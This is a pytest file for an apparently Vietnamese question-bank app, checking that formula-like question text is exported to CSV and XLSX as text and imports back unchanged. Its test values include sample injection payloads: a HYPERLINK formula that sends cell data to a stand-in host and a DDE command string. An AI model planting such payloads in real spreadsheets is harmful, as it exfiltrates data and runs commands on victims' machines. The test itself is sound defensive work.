"""Spreadsheet formula injection (issue 15, item 7): a question whose stem is a formula is
exported as text to CSV and XLSX, and imports back as it was."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from kholieu.bank import richtext
from kholieu.bank.formats.tabular import read
from kholieu.files import spreadsheets

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "written"),
    [(HOSTILE, "'" + HOSTILE), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("-1,5", "-1,5"), ("-3", "-3"), ("Câu 1", "Câu 1"), (7, 7)],
)  # fmt: skip
def test_formula_like_cells_are_written_as_text(value, written):
    assert spreadsheets.csv_cell(value) == written
    assert spreadsheets.from_csv(str(written)) == str(value)


@pytest.fixture
def people(make_user, bearer):
    return {"teacher": bearer(make_user("teacher"))}


def test_a_formula_stem_leaves_the_bank_as_text_and_comes_back(client, people, tmp_path):
    question = {"type": "single_choice", "stem": HOSTILE, "options": ["-1,5", "=1+1", "c"],
                "answer": 0, "subject": "toan", "grade": 10, "level": "nhan_biet"}  # fmt: skip
    assert client.post("/api/v1/questions", json=question, headers=people["teacher"]).is_success
    xlsx = client.get("/api/v1/questions/export?format=xlsx", headers=people["teacher"])
    assert xlsx.status_code == 200, xlsx.text
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    stem = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert stem.data_type == "s" and stem.value == HOSTILE  # text, not a formula
    assert not any(c.data_type == "f" for c in cells)

    exported = client.get("/api/v1/questions/export?format=csv", headers=people["teacher"])
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    flat = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in flat and "-1,5" in flat and "'=1+1" in flat
    assert not any(cell.startswith(spreadsheets.TRIGGERS) and cell not in ("-1,5",)
                   for cell in flat)  # fmt: skip
    # the bank's own CSV imports as it was exported: the apostrophes are not part of it
    path = tmp_path / "bank.csv"
    path.write_bytes(exported.content)
    parsed = [p for p in read(path, images=lambda *_: pytest.fail("no images")) if p.data]
    assert richtext.to_text(parsed[0].data["stem"]) == HOSTILE
    assert parsed[0].data["options"] == ["-1,5", "=1+1", "c"]
